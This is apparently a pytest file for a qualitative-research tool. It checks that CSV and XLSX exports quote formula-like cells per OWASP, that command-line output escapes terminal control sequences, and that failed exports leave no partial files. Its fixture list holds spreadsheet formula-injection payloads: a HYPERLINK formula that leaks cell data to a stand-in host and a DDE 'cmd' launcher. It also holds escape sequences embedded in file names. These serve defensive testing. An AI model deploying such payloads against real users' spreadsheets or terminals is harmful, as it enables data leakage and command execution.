"""Exports and output are inert: formula-like cells stay text in CSV and XLSX (OWASP), control
characters never reach the terminal raw, and a full disk is one line with nothing half written."""

from __future__ import annotations

import csv
import errno
import gc
import sys
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from qualcode.core.analysis.display import Display
from qualcode.core.export import ExportError, export_display
from qualcode.core.inert import shown, spreadsheet_text
from qualcode.core.store import Project

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


def hostile_display() -> Display:
    frame = pd.DataFrame({"Catatan": PAYLOADS, "n": [1, 2, 3, 4, 5, -6]},
                         index=pd.Index(["=A1", "+", "-", "ok", "@x", "b"], name="=Kode"))
    return Display("retrieval", "=cmd|' /C calc'!A0", frame, "text", ["@note"], "en")


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"), ("+62 812", "'+62 812"), ("-x", "'-x"), ("@a", "'@a"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("+", "+"), ("-", "-"), ("ok = fine", "ok = fine"),
    (-3, -3), (2.5, 2.5), (None, None),
])
def test_spreadsheet_text_follows_owasp(value: object, expected: object) -> None:
    assert spreadsheet_text(value) == expected


def test_csv_cells_that_look_like_formulas_are_quoted(tmp_path: Path) -> None:
    path = export_display(hostile_display(), tmp_path / "x.csv")
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][0] == "'=Kode"
    body = {row[0]: row[1:] for row in rows[1:]}
    assert body["'=A1"][0] == "'" + PAYLOADS[0]
    assert [row[1] for row in rows[1:]] == ["'" + p for p in PAYLOADS]
    assert [row[2] for row in rows[1:]] == ["1", "2", "3", "4", "5", "-6"]  # numbers stay
    assert {"+", "-"} <= set(body)  # a lone valence sign cannot be a formula


def test_xlsx_cells_that_look_like_formulas_are_text(tmp_path: Path) -> None:
    path = export_display(hostile_display(), tmp_path / "x.xlsx")
    sheet = load_workbook(path).active
    assert sheet is not None
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    texts = {c.value: c for c in cells if isinstance(c.value, str)}
    for payload in PAYLOADS:
        assert texts[payload].data_type == "s" and texts[payload].quotePrefix
    assert texts["=cmd|' /C calc'!A0"].data_type == "s"  # the title too
    assert -6 in {c.value for c in cells}


def test_shown_escapes_what_a_terminal_would_obey() -> None:
    assert shown("a\x1b[2Jb\x07c\rd\x9be\u202ef") == "a\\x1b[2Jb\\x07c\\x0dd\\x9be\\u202ef"
    assert shown("baris\n\tdua — ok") == "baris\n\tdua — ok"
    assert shown(b"caf\xe9".decode("utf-8", "surrogateescape")) == "caf\\xe9"


def test_cli_output_never_carries_escape_sequences(tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from qualcode.cli import app

    runner = CliRunner()
    project_path = tmp_path / "p.qualcode"
    assert runner.invoke(app, ["init", str(project_path), "-c", "sobandi-2008"]).exit_code == 0
    name = tmp_path / "evil\x1b]0;TITLE\x07.txt"
    name.write_text("Informan: Kami\x1b[31m melayani\x1b[0m masyarakat. Tanpa\x9b warna.\n",
                    encoding="utf-8")
    result = runner.invoke(app, ["import", "-p", str(project_path), str(name)])
    assert result.exit_code == 0, result.stderr
    assert "evil\\x1b]0;TITLE\\x07.txt" in result.stdout
    with Project.open(project_path) as project:
        source = project.sources()[0]
        assert source.id is not None
        segment = project.segments(source.id)[0]
        project.apply_code(source.id, segment.start, segment.end, "SOB-1",
                           note="=HYPERLINK(\"http://x\")\x1b[5m")
    for command in (["sources"], ["segments", "evil"], ["codings"],
                    ["codings", "--format", "json"], ["codings", "--format", "csv"]):
        result = runner.invoke(app, [*command, "-p", str(project_path)])
        assert result.exit_code == 0, result.stderr
        if command[-1] == "csv":  # CSV is data for a file: the text is kept, formulas quoted
            assert "'=HYPERLINK" in result.stdout and "Kami\x1b[31m" in result.stdout
            continue
        assert "\x1b" not in result.stdout + result.stderr, command
        assert "\x9b" not in result.stdout and "\x07" not in result.stdout, command


def test_csv_on_a_terminal_is_escaped(monkeypatch: pytest.MonkeyPatch,
                                      capsys: pytest.CaptureFixture[str]) -> None:
    from types import SimpleNamespace

    from qualcode.cli.render import print_codings

    monkeypatch.setattr(sys.stdout, "isatty", lambda: True)
    row = SimpleNamespace(id=1, source="a\x1b[2J.txt", start=0, end=3, code="K", code_label="",
                          valence="-", coder="c", informant=None, role=None, kind="interview",
                          note="@x", excerpt="ab\x07", line=1, paragraph=1, page=None,
                          interviewer=False, speaker=None)
    print_codings(None, [row], "csv")  # type: ignore[arg-type, list-item]
    out = capsys.readouterr().out
    assert "\x1b" not in out and "a\\x1b[2J.txt" in out and "'@x" in out and "ab\\x07" in out


def test_a_full_disk_is_one_line_and_nothing_half_written(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "x.xlsx"
    target.write_bytes(b"the previous export")
    real_write = Path.write_bytes

    def full_disk(self: Path, data: bytes) -> int:
        real_write(self, data[: len(data) // 2])  # part of it fits, then the disk is full
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(Path, "write_bytes", full_disk)
    with pytest.raises(ExportError, match="No space left on device"):
        export_display(hostile_display(), target, force=True)   # replacing, as asked
    monkeypatch.undo()
    gc.collect()  # an unclosed zip file would complain here
    assert "Exception ignored" not in capfd.readouterr().err
    assert target.read_bytes() == b"the previous export"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["x.xlsx"]


def test_exports_refuse_a_fifo_instead_of_blocking(tmp_path: Path) -> None:
    import os

    fifo = tmp_path / "out.csv"
    os.mkfifo(fifo)
    with pytest.raises(ExportError, match="not a regular file"):
        export_display(hostile_display(), fifo)
